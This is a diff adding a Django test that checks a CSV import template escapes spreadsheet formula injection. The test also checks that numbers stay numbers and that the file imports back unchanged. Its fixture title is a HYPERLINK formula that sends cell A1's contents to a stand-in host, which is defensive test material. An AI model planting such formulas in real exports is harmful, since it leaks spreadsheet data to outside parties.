@@ -220,3 +220,21 @@ def test_organ_page_and_template_use_a_fixed_number_of_queries(
     assert counts() == small
     with django_assert_max_num_queries(12):
         client_a.get(organ_url(board_a))
+
+
+FORMULA_TITLE = '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")'
+
+
+def test_the_organ_template_writes_a_formula_title_as_text_and_imports_back(client_a, board_a, indicator):
+    """Issue 8, point 3: a title that a spreadsheet would run as a formula is written with a quote in
+    front; the numbers (a negative one too) stay numbers, and the template imports back unchanged."""
+    type(indicator).objects.filter(pk=indicator.pk).update(title=FORMULA_TITLE)
+    f.IndicatorValueFactory(indicator=indicator, year=2023, value=Decimal("-5.2"))
+    response = client_a.get(reverse("indicators:organ_import_template", args=[board_a.slug]))
+    lines = response.content.decode("utf-8").splitlines()
+    assert lines[5] == 'andel-cykel;"\'=HYPERLINK(""http://example.invalid/?x=""&A1,""Klicka"")";2023;-5,2;'
+    assert not any(";=" in line or line.startswith("=") for line in lines)
+    before = state(indicator)
+    imported = client_a.post(organ_url(board_a), {"fil": upload("mall.csv", response.content)}, follow=True)
+    assert messages_of(imported) == ["Filen är importerad: 0 nya, 0 ändrade och 3 oförändrade värden."]
+    assert state(indicator) == before
